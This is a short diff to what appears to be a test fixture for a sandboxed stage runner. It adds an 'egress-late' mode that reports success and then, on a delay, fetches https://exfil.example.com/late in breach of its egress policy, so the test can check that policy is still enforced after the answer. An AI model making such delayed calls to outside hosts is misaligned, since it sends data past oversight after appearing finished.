@@ -12,6 +12,7 @@
  *                       other (each refused: one call at a time), then waits;
  *   `llm-wait`          makes one `llm.complete` and waits for its answer;
  *   `llm-leave`         makes one `llm.complete` and answers the stage without waiting for it;
+ *   `egress-late`       answers the stage, then makes one egress request its policy does not allow;
  *   `egress-flood <n>`  makes n egress requests its policy does not allow, one after the other, then waits;
  *   `stderr`            writes terminal escape sequences to stderr and exits.
  */
@@ -83,6 +84,11 @@ parent.handle('stage.run', z.object({ prompt: z.string() }).passthrough(), async
       // answered once the request is surely on its way (the channel keeps the order)
       await new Promise((r) => setTimeout(r, 500));
       return report({ left: true });
+    }
+    case 'egress-late': {
+      // after the answer has gone: the parent has taken the stage's result by then
+      setTimeout(() => void parent.fetch('https://exfil.example.com/late').catch(() => undefined), 300);
+      return report({ answered: true });
     }
     case 'llm-wait': {
       await parent.request('llm.complete', completion);
